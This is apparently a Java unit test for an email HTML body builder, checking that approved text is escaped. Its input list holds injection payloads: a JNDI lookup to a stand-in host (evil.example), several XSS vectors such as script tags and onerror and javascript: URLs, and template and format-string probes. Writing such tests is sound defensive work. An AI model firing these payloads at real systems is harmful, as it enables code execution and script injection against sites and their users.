package dev.outbound.dispatch;

import static org.assertj.core.api.Assertions.assertThat;

import dev.outbound.fixture.World;
import dev.outbound.workspace.Identity;
import dev.outbound.workspace.WorkspaceSettings;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Approved words are words: no template language reads them, no mail program runs them. */
class HtmlBodyTest {

    private static final URI LINK = URI.create("https://crm.example/u/token");
    private static final Pattern TAG = Pattern.compile("<(/?)([a-z!]+)([^>]*)>");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{7*7}}",
                "{{first_name}} and {{{first_name}}}",
                "${jndi:ldap://evil.example/a}",
                "#{7*7} %{7*7} <%= 7*7 %> [[${7*7}]] *{7*7}",
                "%s %n %1$s {0} $1 \\1",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\"><svg/onload=alert(1)>",
                "'><iframe src=javascript:alert(1)>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "javascript:alert(1)",
                "data:text/html;base64,PHNjcmlwdD4=",
                "<!-- --><style>*{display:none}</style>",
                "</p></body></html><p>after the end",
                "&lt;script&gt; &#60;b&#62; &amp;amp;",
                "\ud835\udd38 \u202e \u0000 \ufeff",
                "<\n\nscript>alert(1)<\n\n/script>"
            })
    void words_are_shown_as_they_are_and_become_neither_markup_nor_a_result(String words) {
        Identity given = World.settings().identity();
        WorkspaceSettings settings = World.settings()
                .withIdentity(new Identity(
                        words, given.fromName(), given.fromLocalPart(), Optional.of(words), Optional.empty()));
        String html = HtmlBody.of(words, settings, LINK);
        Matcher tag = TAG.matcher(html);
        List<String> tags = new ArrayList<>();
        while (tag.find()) {
            tags.add(tag.group(2));
            if (tag.group(2).equals("a") && tag.group(1).isEmpty()) {
                assertThat(tag.group(3)).isEqualTo(" href=\"https://crm.example/u/token\"");
            } else if (!tag.group(3).isEmpty()) {
                assertThat(tag.group()).isIn("<!doctype html>", "<p style=\"color:#666;font-size:12px\">");
            }
        }
        assertThat(List.of("!doctype", "html", "body", "p", "br", "a")).containsAll(tags);
        assertThat(html.replaceAll("<[^>]*>", "")).doesNotContain("<", ">");
        assertThat(shown(html)).contains(words.replace("\n", "")).doesNotContain("49");
    }

    /** What a reader sees, line breaks aside. */
    private static String shown(String html) {
        return html.replaceAll("<[^>]*>", "")
                .replace("\n", "")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&quot;", "\"")
                .replace("&#39;", "'")
                .replace("&amp;", "&");
    }
}
